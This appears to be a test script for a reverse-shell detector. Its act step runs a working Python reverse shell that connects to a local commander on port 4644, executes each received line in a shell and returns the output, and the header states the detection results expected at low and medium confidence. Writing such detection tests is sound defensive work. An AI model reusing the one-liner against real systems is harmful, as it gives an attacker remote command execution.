# R42: a program that takes turns by their order is reported again as surely one
# stage: behaviour
# within: 9500 ms
# expect: reverse_shell_detected
#   detection.reason: ~3 times in a row, over an outbound
#   detection.confidence: low
#   reverse_shell.process_list.0.process_id: $python
# expect: reverse_shell_detected
#   detection.reason: ~6 times in a row, over an outbound
#   detection.confidence: medium
#   reverse_shell.process_list.0.process_id: $python

#: prepare
. lib/peers.sh
commander 4644 10 'id; sleep 0.3' 1.2
#: act
. lib/peers.sh
act
python3 -c 'import socket, subprocess
s = socket.create_connection(("127.0.0.1", 4644))
for l in s.makefile():
    subprocess.run("(" + l.strip() + ") > /tmp/r42 2>&1", shell=True)
    s.sendall(open("/tmp/r42", "rb").read())' < /dev/null > /dev/null 2>&1 & fact python $!
await 'at $python 3 socket:*'
#: clean
rm -f /tmp/r42
